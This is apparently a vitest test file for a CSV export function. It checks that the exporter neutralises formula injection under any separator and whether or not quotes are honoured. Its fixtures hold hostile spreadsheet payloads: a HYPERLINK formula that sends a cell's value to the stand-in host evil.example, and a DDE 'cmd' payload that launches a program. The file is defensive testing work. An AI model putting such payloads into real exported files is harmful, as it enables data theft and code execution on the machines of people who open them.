// The audit's repro (issue #31): a project name from the service, "Q3;=HYPERLINK(…&C2);", was
// written unquoted, and LibreOffice opening the file with ';' as its separator (as Excel does in
// most of continental Europe) ran the formula. The file is read back here the ways a
// spreadsheet might: honouring quotes or not, with ',', ';' or a tab as separator.
import { describe, expect, it } from 'vitest';
import { toCsv } from '../../../../main/core/export';
import type { ExportTable } from '../../../../main/core/export';

const SEPARATORS = [',', ';', '\t'] as const;

/** An RFC 4180 reader with any separator: quotes hold separators and line ends, "" is one quote. */
function quoteAwareCells(text: string, separator: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let index = 0; index < text.length; index += 1) {
    const char = text[index]!;
    if (quoted) {
      if (char === '"' && text[index + 1] === '"') {
        cell += '"';
        index += 1;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === separator || char === '\r' || char === '\n') {
      if (char === '\r' && text[index + 1] === '\n') index += 1;
      cells.push(cell);
      cell = '';
    } else cell += char;
  }
  cells.push(cell);
  return cells;
}

/** What a misconfigured import does: every line end and every separator starts a cell, quotes or not. */
function naiveCells(text: string, separator: string): string[] {
  return text.split(/\r\n|\r|\n/).flatMap((line) => line.split(separator));
}

// Leading spaces too: an import may trim them.
const FORMULA_START = /^ *[=+\-@\t\r]/;
const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/;

/** Cells a spreadsheet could evaluate: those starting with a formula character, a plain number aside. */
function formulaCells(bytes: Uint8Array): string[] {
  const text = new TextDecoder('utf-8').decode(bytes);
  const found: string[] = [];
  for (const separator of SEPARATORS) {
    for (const cell of [...quoteAwareCells(text, separator), ...naiveCells(text, separator)]) {
      if (FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell)) found.push(`${JSON.stringify(separator)}: ${JSON.stringify(cell)}`);
    }
  }
  return found;
}

const hostile: ExportTable = {
  sheetName: 'Quotes',
  columns: [
    { header: 'Project', kind: 'text' },
    { header: 'Total', kind: 'number' },
    { header: 'Reference', kind: 'text' },
  ],
  rows: [
    ['Q3;=HYPERLINK("http://evil.example/?"&C2);', -120.5, 'PO-1'],
    ['Launch, @SUM(A1:A9)', 4376.84, 'a\t+1\r\n-2\r=3\n@4'],
    ['=1+1', 0, ';\t=cmd|" /C calc"!A0'],
    ['-minus', null, 'x,,+y;;-z'],
  ],
};

describe('CSV export that no spreadsheet evaluates, whatever its separator', () => {
  it('leaves no cell starting with a formula character, read with ",", ";" or a tab, honouring quotes or not', () => {
    expect(formulaCells(toCsv(hostile).bytes)).toEqual([]);
  });

  it('quotes every text cell and keeps numbers bare, so a negative amount stays a number', () => {
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(toCsv(hostile).bytes);
    const lines = text.split('\r\n');
    expect(lines[0]).toBe('\uFEFF"Project","Total","Reference"');
    expect(lines[1]).toBe(`"Q3;'=HYPERLINK(""http://evil.example/?""&C2);",-120.5,"PO-1"`);
  });

  it('reads back as the text it was, an apostrophe before each place a formula could start', () => {
    const cells = quoteAwareCells(new TextDecoder('utf-8', { ignoreBOM: true }).decode(toCsv(hostile).bytes), ',');
    expect(cells.slice(3, 9)).toEqual(['Q3;\'=HYPERLINK("http://evil.example/?"&C2);', '-120.5', 'PO-1', 'Launch, \'@SUM(A1:A9)', '4376.84', "a\t'+1\r\n'-2\r'=3\n'@4"]);
  });
});
